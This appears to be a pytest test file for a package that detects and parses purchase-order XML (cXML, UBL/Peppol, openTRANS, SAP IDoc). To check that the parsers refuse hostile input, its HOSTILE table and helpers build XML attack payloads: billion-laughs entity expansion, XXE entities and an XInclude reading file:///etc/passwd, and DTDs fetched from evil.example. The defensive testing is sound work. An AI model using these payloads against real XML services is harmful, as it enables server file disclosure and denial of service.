"""Order documents recognised by content and read by one entry point, hostile ones refused
(the protocol/orders package); pytest, no Odoo.
"""

import time
from decimal import Decimal

import pytest
from lxml import etree
from order_samples import OASIS_ORDER, OPENTRANS_ORDER, PEPPOL_ORDER, UBL_DIR
from order_samples_sap import IDOC_ORDERS05, _idoc_change
from protocol import cxml, orders
from protocol.cxml import Money
from protocol.errors import (
    HostileDocument,
    MalformedDocument,
    PayloadTooLarge,
    UnsupportedRequest,
)
from testdata import CXML_SAMPLES


def _billion_laughs(root="Order"):
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)
    ]
    return f"<!DOCTYPE {root} [{''.join(entities)}]><{root}>&lol9;</{root}>".encode()


def _xxe(document, root):
    """``document`` with an external entity declared and used in it."""
    declaration = f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = document.split(b"?>", 1)[1]
    return declaration.encode() + body.replace(b"</", b"&xxe;</", 1)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (lambda: (CXML_SAMPLES / "cxml-php_OrderRequest.xml").read_bytes(), "cxml"),
        (lambda: (CXML_SAMPLES / "cxml-php_PunchOutSetupRequest.xml").read_bytes(), "cxml"),
        (lambda: OASIS_ORDER.read_bytes(), "ubl"),
        (lambda: PEPPOL_ORDER, "ubl"),
        (lambda: OPENTRANS_ORDER, "opentrans"),
        (lambda: IDOC_ORDERS05, "idoc"),
        (lambda: _idoc_change(), "idoc"),
    ],
)
def test_detect_order_format(data, kind):
    assert orders.detect_order_format(data()) == kind


def test_detect_by_content_not_by_name():
    # An IDoc with an extension type as root is recognised by its control record.
    extended = IDOC_ORDERS05.replace(b"ORDERS05>", b"ZORDERS05EXT>")
    assert orders.detect_order_format(extended) == "idoc"
    # openTRANS wrapped in OPENTRANS, and openTRANS without its namespace.
    wrapped = OPENTRANS_ORDER.replace(
        b"<ORDER ", b'<OPENTRANS xmlns="http://www.opentrans.org/XMLSchema/2.1"><ORDER ', 1
    ).replace(b"</ORDER>", b"</ORDER></OPENTRANS>")
    assert orders.detect_order_format(wrapped) == "opentrans"
    assert orders.parse_order(wrapped).order_id == "BE-2024-00815"
    bare = b"<ORDER><ORDER_HEADER/></ORDER>"
    assert orders.detect_order_format(bare) == "opentrans"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(lambda: (UBL_DIR / "UBL-Invoice-2.1-Example.xml").read_bytes(), id="invoice"),
        pytest.param(lambda: b"<Order><ID>1</ID></Order>", id="order-without-ubl-namespace"),
        pytest.param(
            lambda: (
                PEPPOL_ORDER.replace(b"xsd:Order-2", b"xsd:OrderChange-2")
                .replace(b"<Order ", b"<OrderChange ")
                .replace(b"</Order>", b"</OrderChange>")
            ),
            id="ubl-order-change",
        ),
        pytest.param(
            lambda: IDOC_ORDERS05.replace(b"ORDERS05", b"DESADV01").replace(
                b"<MESTYP>ORDERS</MESTYP>", b"<MESTYP>DESADV</MESTYP>"
            ),
            id="idoc-desadv",
        ),
        pytest.param(lambda: b"<html><body>Purchase order</body></html>", id="html"),
        pytest.param(
            lambda: OPENTRANS_ORDER.replace(b"<ORDER ", b"<INVOICE ").replace(
                b"</ORDER>", b"</INVOICE>"
            ),
            id="opentrans-invoice",
        ),
    ],
)
def test_detect_other_documents_is_none_and_parse_is_450(data):
    document = data()
    assert orders.detect_order_format(document) is None
    with pytest.raises(UnsupportedRequest) as info:
        orders.parse_order(document)
    assert info.value.status == 450
    root = etree.QName(etree.fromstring(document)).localname
    assert f"<{root}>" in info.value.message


def test_unsupported_message_names_root_and_namespace():
    invoice = (UBL_DIR / "UBL-Invoice-2.1-Example.xml").read_bytes()
    with pytest.raises(UnsupportedRequest) as info:
        orders.read_order(invoice)
    message = info.value.message
    assert (
        "<Invoice> (namespace urn:oasis:names:specification:ubl:schema:xsd:Invoice-2)" in message
    )
    assert "Peppol BIS Order 3" in message and "IDoc ORDERS05" in message


HOSTILE = {
    "billion-laughs": lambda: _billion_laughs(),
    "internal-entity": lambda: (
        b'<!DOCTYPE Order [<!ENTITY n "4500012345">]>'
        + PEPPOL_ORDER.split(b"?>", 1)[1].replace(b"<cbc:ID>4500012347", b"<cbc:ID>&n;", 1)
    ),
    "xxe-ubl": lambda: _xxe(PEPPOL_ORDER, "Order"),
    "xxe-opentrans": lambda: _xxe(OPENTRANS_ORDER, "ORDER"),
    "xxe-idoc": lambda: _xxe(IDOC_ORDERS05, "ORDERS05"),
    "parameter-entity": lambda: (
        b'<!DOCTYPE ORDERS05 [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
        + IDOC_ORDERS05.split(b"?>", 1)[1]
    ),
    "external-dtd-entity-reference": lambda: (
        b'<!DOCTYPE ORDER SYSTEM "http://evil.example/a.dtd">'
        + OPENTRANS_ORDER.split(b"?>", 1)[1].replace(b"BE-2024-00815", b"&xxe;")
    ),
    "xinclude": lambda: IDOC_ORDERS05.replace(
        b"<ORDERS05>",
        b'<ORDERS05 xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/>',
    ),
}

PARSERS = {
    "detect": orders.detect_order_format,
    "parse_order": orders.parse_order,
    "ubl": orders.parse_ubl_order,
    "opentrans": orders.parse_opentrans_order,
    "idoc": orders.parse_idoc_orders05,
}


@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_documents_are_refused_by_every_reader(parser, document):
    start = time.monotonic()
    with pytest.raises(HostileDocument) as info:
        parser(document())
    assert info.value.status == 400
    assert "root:" not in info.value.message
    assert time.monotonic() - start < 2


@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
def test_size_limit_applies_before_parsing(parser):
    with pytest.raises(PayloadTooLarge) as info:
        parser(IDOC_ORDERS05, max_bytes=1000)
    assert info.value.status == 413
    huge = b"<ORDERS05>" + b"<E1EDKT2/>" * 600_000 + b"</ORDERS05>"
    with pytest.raises(PayloadTooLarge):
        parser(huge)


@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
@pytest.mark.parametrize("data", [b"", b"not xml", b"<Order><cbc:ID>1</Order>", None])
def test_malformed_input(parser, data):
    with pytest.raises(MalformedDocument) as info:
        parser(data)
    assert info.value.status == 400


def test_cxml_order_request_is_read_by_the_endpoint_parser():
    data = (CXML_SAMPLES / "cxml-php_OrderRequest.xml").read_bytes()
    document = orders.read_order(data)
    assert document.format == "cxml"
    assert document.document_id == "1625586002.193314.7293@dev"
    assert document.order == cxml.parse_request(data).request
    order = document.order
    assert order.order_id == "DO1234"
    assert order.total == Money(Decimal("85.00"), "EUR")
    assert [(i.supplier_part_id, i.quantity) for i in order.items] == [
        ("1233244", Decimal("10")),
        ("1233245", Decimal("20")),
    ]


def test_cxml_other_requests_are_not_orders():
    setup = (CXML_SAMPLES / "cxml-php_PunchOutSetupRequest.xml").read_bytes()
    with pytest.raises(UnsupportedRequest) as info:
        orders.parse_order(setup)
    assert "PunchOutSetupRequest" in info.value.message
    cart = (CXML_SAMPLES / "cxml-php_PunchoutOrderMessage.xml").read_bytes()
    with pytest.raises(UnsupportedRequest):
        orders.parse_order(cart)
    with pytest.raises(MalformedDocument, match=r"UBL 2\.1 Order"):
        orders.parse_ubl_order(setup)
